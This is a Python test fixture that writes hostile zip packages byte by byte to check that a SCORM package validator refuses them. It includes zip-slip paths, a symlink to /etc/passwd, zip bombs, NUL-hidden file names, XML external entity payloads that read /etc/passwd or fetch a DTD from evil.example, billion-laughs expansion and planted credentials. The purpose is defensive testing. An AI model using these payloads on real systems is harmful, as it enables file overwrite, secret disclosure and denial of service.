"""Crafted zips for `validate`, written byte by byte, and a package folder with a symlink.

`raw_zip` writes entries as given, so a zip can lie about sizes, carry unknown compression methods,
symlink modes or non-UTF-8 names, and a bomb of 2 GiB costs one compression of 1 MiB. Used by
`test_hostile_packages.py` and `bench/bench_hostile.py`.
"""

from __future__ import annotations

import base64
import os
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path


@dataclass(frozen=True)
class Entry:
    """One zip entry as written: `data` is already compressed with `method`."""

    name: bytes
    data: bytes = b""
    size: int | None = None  # uncompressed size claimed (default: len of the data, if stored)
    crc: int = 0
    method: int = 0
    flags: int = 0
    mode: int = 0o100644
    create_system: int = 3


def stored(name: str | bytes, data: bytes, **kw: int) -> Entry:
    """An uncompressed entry."""
    raw = name.encode() if isinstance(name, str) else name
    return Entry(raw, data, len(data), zlib.crc32(data), 0, **kw)


def deflated(name: str, data: bytes) -> Entry:
    """A deflated entry."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = c.compress(data) + c.flush()
    return Entry(name.encode(), packed, len(data), zlib.crc32(data), 8)


def raw_zip(entries: list[Entry], *, claim_entries: int | None = None) -> bytes:
    """A zip of `entries`; `claim_entries` forges the entry count of the end records (zip64)."""
    out = bytearray()
    central = bytearray()
    for e in entries:
        size = len(e.data) if e.size is None else e.size
        offset = len(out)
        out += struct.pack(
            "<IHHHHHIIIHH",
            0x04034B50,
            20,
            e.flags,
            e.method,
            0,
            0x21,
            e.crc,
            len(e.data),
            size & 0xFFFFFFFF,
            len(e.name),
            0,
        )
        out += e.name + e.data
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            (e.create_system << 8) | 20,
            20,
            e.flags,
            e.method,
            0,
            0x21,
            e.crc,
            len(e.data),
            size & 0xFFFFFFFF,
            len(e.name),
            0,
            0,
            0,
            0,
            (e.mode & 0xFFFF) << 16,
            offset,
        )
        central += e.name
    cd_offset, cd_size = len(out), len(central)
    out += central
    count = len(entries) if claim_entries is None else claim_entries
    if count > 0xFFFF:
        zip64 = len(out)
        out += struct.pack(
            "<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, cd_size, cd_offset
        )
        out += struct.pack("<IIQI", 0x07064B50, 0, zip64, 1)
        out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, cd_size, cd_offset, 0)
    else:
        out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, cd_size, cd_offset, 0)
    return bytes(out)


def entries_of(package: Path) -> list[Entry]:
    """The entries of a real package, re-packed as stored entries (a valid base to add to)."""
    with zipfile.ZipFile(package) as zf:
        return [stored(i.filename, zf.read(i)) for i in zf.infolist()]


MANIFEST_12 = b"""<?xml version="1.0"?>
%s<manifest identifier="M" version="1" xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2"
 xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2">
<metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion></metadata>
<organizations default="O"><organization identifier="O"><title>%s</title>
<item identifier="I" identifierref="R"><title>T</title></item></organization></organizations>
<resources><resource identifier="R" type="webcontent" adlcp:scormtype="sco" href="index.html">
<file href="index.html"/></resource></resources></manifest>
"""


def manifest12(doctype: bytes = b"", title: bytes = b"T") -> bytes:
    """A small SCORM 1.2 manifest, optionally with a DOCTYPE and a title using its entities."""
    return MANIFEST_12 % (doctype, title)


def base(*extra: Entry, manifest: bytes | None = None) -> list[Entry]:
    """A valid SCORM 1.2 package plus `extra` (each hostile zip is this plus one defect)."""
    return [
        stored("imsmanifest.xml", manifest if manifest is not None else manifest12()),
        stored("index.html", b"<!doctype html><title>x</title>"),
        *extra,
    ]


def _bomb_entries(count: int, size: int) -> list[Entry]:
    zeros = bytes(size)
    one = deflated("x", zeros)
    return [Entry(f"assets/z{i:05}.bin".encode(), one.data, size, one.crc, 8) for i in range(count)]


def _huge_manifest() -> bytes:
    files = b"".join(
        b'<file href="%s.html"/>' % os.urandom(24).hex().encode() for _ in range(70_000)
    )
    return manifest12().replace(b'<file href="index.html"/>', files)


#: name -> (zip bytes factory, a phrase the one line about it must contain).
HOSTILE_ZIPS: dict[str, tuple[Callable[[], bytes], str]] = {
    "zip-slip": (lambda: raw_zip(base(stored("../evil.js", b"x"))), "unsafe zip entry name"),
    "absolute-path": (lambda: raw_zip(base(stored("/etc/x.js", b"x"))), "unsafe zip entry name"),
    "symlink": (
        lambda: raw_zip(base(stored("runtime/passwd.js", b"/etc/passwd", mode=0o120777))),
        "symbolic link",
    ),
    "fifo": (lambda: raw_zip(base(stored("runtime/pipe", b"", mode=0o010644))), "special file"),
    "bomb-2047x1MiB": (
        lambda: raw_zip(base(*_bomb_entries(2047, 1024**2))),
        "bytes uncompressed, more than",
    ),
    "bomb-900x1MiB": (lambda: raw_zip(base(*_bomb_entries(900, 1024**2))), "zip bomb"),
    "bomb-one-entry": (lambda: raw_zip(base(*_bomb_entries(1, 512 * 1024**2))), "zip bomb"),
    "unknown-method": (
        lambda: raw_zip(base(Entry(b"a.js", b"xyz", 3, 0, 99))),
        "compression method",
    ),
    "bzip2-method": (
        lambda: raw_zip(base(Entry(b"a.js", b"BZh9", 3, 0, 12))),
        "compression method",
    ),
    "encrypted": (lambda: raw_zip(base(stored("a.js", b"xyz", flags=1))), "encrypted"),
    "non-utf8-name": (
        lambda: raw_zip(base(stored(b"caf\xe9\xff.js", b"x", flags=0x800))),
        "not valid UTF-8",
    ),
    "lying-crc": (
        lambda: raw_zip(base(Entry(b"a.js", b"let x = 1;", 10, 1234, 0))),
        "cannot read",
    ),
    "lying-size": (
        lambda: raw_zip(base(Entry(b"a.js", deflated("a", b"let x = 1;").data, 10**6, 0, 8))),
        "cannot read",
    ),
    "escapes-in-name": (
        lambda: raw_zip(base(stored("x\n\x1b[2Jfake.php", b""))),
        "x\\n\\x1b[2Jfake.php: file type '.php' is refused",
    ),
    "duplicate": (lambda: raw_zip(base(stored("index.html", b"y"))), "duplicate"),
    # Unpacked on a case-insensitive file system (Windows, macOS), one overwrites the other:
    # what the LMS serves as index.html is not what was checked.
    "case-twin": (
        lambda: raw_zip(base(stored("INDEX.HTML", b"<script>evil()</script>"))),
        "INDEX.HTML: the name of index.html but for letter case",
    ),
    "folder-file-twin": (
        lambda: raw_zip(base(stored("index.html/", b""))),
        "index.html/: both a folder and a file",
    ),
    # zipfile cuts a name at NUL: "a.js" would pass for what other unzip tools call a .php file.
    "nul-in-name": (
        lambda: raw_zip(base(stored(b"a.js\x00.php", b"<?php"))),
        "a.js\\x00.php: a NUL character in the name",
    ),
    "nul-hides-slip": (
        lambda: raw_zip(base(stored(b"index.html\x00/../../x.js", b"x"))),
        "a NUL character in the name",
    ),
    "external-entity": (
        lambda: raw_zip(
            base(
                manifest=manifest12(
                    b'<!DOCTYPE manifest [<!ENTITY x SYSTEM "file:///etc/passwd">]>', b"&x;"
                )
            )
        ),
        "DOCTYPE",
    ),
    "parameter-entity": (
        lambda: raw_zip(
            base(
                manifest=manifest12(
                    b'<!DOCTYPE manifest [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>'
                )
            )
        ),
        "DOCTYPE",
    ),
    "external-dtd": (
        lambda: raw_zip(
            base(manifest=manifest12(b'<!DOCTYPE manifest SYSTEM "http://evil.example/m.dtd">'))
        ),
        "DOCTYPE",
    ),
    "billion-laughs": (
        lambda: raw_zip(
            base(
                manifest=manifest12(
                    b'<!DOCTYPE m [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">'
                    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>',
                    b"&c;",
                )
            )
        ),
        "DOCTYPE",
    ),
    "huge-manifest": (lambda: raw_zip(base(manifest=_huge_manifest())), "manifest"),
    "many-entries": (
        lambda: raw_zip(base(*(stored(f"f{i}.txt", b"") for i in range(20_001)))),
        "entries",
    ),
    "lying-count": (
        lambda: raw_zip(base(*(stored(f"{i:07}", b"") for i in range(290_000))), claim_entries=3),
        "entries",
    ),
    "forged-2M-entries": (
        lambda: raw_zip(base(), claim_entries=2_000_000),
        "entries",
    ),
    "secret-in-svg": (
        lambda: raw_zip(base(stored("assets/a.svg", b'<svg><!-- "auth": "s3cret" --></svg>'))),
        "credential",
    ),
    "secret-in-jsx": (
        lambda: raw_zip(base(stored("src/a.jsx", b'const c = <Lrs auth="Basic dXNlcjpwdw==" />;'))),
        "credential",
    ),
    "secret-in-json5": (
        lambda: raw_zip(base(stored("cfg.json5", b"{endpoint: 'https://u:pw@lrs.example/x'}"))),
        "credential",
    ),
    "token-in-query": (
        lambda: raw_zip(base(stored("a.js", b'fetch("https://lrs.example/x?token=abc123")'))),
        "credential",
    ),
    "not-a-zip": (lambda: b"PK\x05\x06" + b"\0" * 10, "cannot read"),
    "truncated": (lambda: raw_zip(base())[:-30], "cannot read"),
}


def hostile_folder(root: Path, outside: Path) -> Path:
    """A package folder whose asset is a symlink to a file outside it carrying a credential."""
    outside.mkdir(parents=True, exist_ok=True)
    (outside / "secret.js").write_text('const c = {"auth": "Basic dXNlcjpwdw=="};\n')
    pkg = root / "pkg"
    pkg.mkdir(parents=True)
    (pkg / "imsmanifest.xml").write_bytes(manifest12())
    (pkg / "index.html").write_text("<!doctype html><title>x</title>")
    (pkg / "runtime").mkdir()
    (pkg / "runtime" / "leak.js").symlink_to(outside / "secret.js")
    return pkg


def text_heavy_zip(mib: int) -> bytes:
    """A package with `mib` MiB of text full of the literals the credential scanner looks for.

    Under every ratio limit (each line has fresh random bytes), so `validate` has to read and
    scan it: the worst case for its time. Used by bench/bench_hostile.py.
    """
    rng = random.Random(15)
    bait = b' Basic %s "auth" x://y secret token %s\n'
    entries = []
    for i in range(mib):
        lines = [
            bait % (base64.b64encode(rng.randbytes(24)), base64.b64encode(rng.randbytes(48)))
            for _ in range(1024 * 1024 // 128)
        ]
        data = b"".join(lines)[: 1024 * 1024]
        entries.append(deflated(f"assets/t{i:04}.txt", data))
    return raw_zip(base(*entries))
